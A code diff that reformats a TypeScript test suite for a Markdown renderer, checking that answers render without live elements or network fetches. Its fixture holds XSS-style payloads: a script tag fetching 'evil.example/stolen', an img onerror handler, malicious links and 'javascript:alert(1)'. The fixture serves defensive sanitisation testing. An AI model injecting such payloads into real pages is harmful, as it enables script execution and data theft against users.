@@ -8,7 +8,8 @@ import { AnchorContext, Markdown } from './markdown.tsx'
 const show = (text: string) => render(<Markdown blocks={blockReader()(text)} />).container
 
 /** Everything that a browser would fetch, run, send or follow. */
-const live = 'a, img, script, iframe, object, embed, link, style, svg image, video, audio, source, form, input, base, meta, [src], [href], [srcset], [style*="url"], [onerror], [onclick]'
+const live =
+  'a, img, script, iframe, object, embed, link, style, svg image, video, audio, source, form, input, base, meta, [src], [href], [srcset], [style*="url"], [onerror], [onclick]'
 
 const hostile = `<script>fetch('https://evil.example/stolen')</script><img src="https://evil.example/pixel.png" onerror="alert(1)"> ![figura](https://evil.example/figure.png) [pulse aquí](https://evil.example/link) <a href="https://evil.example/link">aquí</a>
 
@@ -40,12 +41,17 @@ describe('the Markdown of an answer', () => {
   })
 
   it('is drawn as what it is', () => {
-    const box = show('## Título\n\nUno **dos** *tres* ~~cuatro~~ `cinco` &amp; \\*seis\\*\n\n3. a\n4. b\n   - c\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> cita\n\n---\n\n- [x] hecho')
+    const box = show(
+      '## Título\n\nUno **dos** *tres* ~~cuatro~~ `cinco` &amp; \\*seis\\*\n\n3. a\n4. b\n   - c\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n> cita\n\n---\n\n- [x] hecho',
+    )
     expect(box.querySelector('h3')?.textContent).toBe('Título')
     expect(box.querySelector('p')?.textContent).toBe('Uno dos tres cuatro cinco & *seis*')
     expect(box.querySelector('ol')?.start).toBe(3)
     expect(box.querySelectorAll('ol ul li')).toHaveLength(1)
-    expect([...box.querySelectorAll('td')].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([['1', 'left'], ['2', 'right']])
+    expect([...box.querySelectorAll('td')].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([
+      ['1', 'left'],
+      ['2', 'right'],
+    ])
     expect(box.querySelector('blockquote')?.textContent).toBe('cita')
     expect(screen.getByText(/☑/)).toBeTruthy()
   })
@@ -56,7 +62,13 @@ describe('the Markdown of an answer', () => {
     expect([...box.querySelectorAll(live)].map((element) => element.outerHTML)).toEqual([])
     expect(fetched).not.toHaveBeenCalled()
     // It can be read, and copied by who wants to.
-    for (const address of ['https://evil.example/figure.png', 'https://evil.example/link', 'javascript:alert(1)', 'https://evil.example/bare']) expect(box.textContent).toContain(address)
+    for (const address of [
+      'https://evil.example/figure.png',
+      'https://evil.example/link',
+      'javascript:alert(1)',
+      'https://evil.example/bare',
+    ])
+      expect(box.textContent).toContain(address)
     expect(box.textContent).toContain("<script>fetch('https://evil.example/stolen')</script>")
   })
 
@@ -64,7 +76,22 @@ describe('the Markdown of an answer', () => {
     const read = blockReader()
     const drawn = vi.fn<(id: number) => string>((id) => `⟦${id}⟧`)
     const text = harmless('**Sí.** Hay dos.\n\n- uno\n- dos')
-    const at = (given: string) => <AnchorContext value={drawn}><Markdown blocks={read(withAnchors(given, [{ at: 7, id: 0 }, { at: 15, id: 1 }], true))} /></AnchorContext>
+    const at = (given: string) => (
+      <AnchorContext value={drawn}>
+        <Markdown
+          blocks={read(
+            withAnchors(
+              given,
+              [
+                { at: 7, id: 0 },
+                { at: 15, id: 1 },
+              ],
+              true,
+            ),
+          )}
+        />
+      </AnchorContext>
+    )
     const { container, rerender } = render(at(text))
     expect(container.querySelector('p')?.textContent).toBe('Sí.⟦0⟧ Hay dos⟦1⟧.')
     expect(container.querySelector('li:last-child [data-caret]')).toBeTruthy()
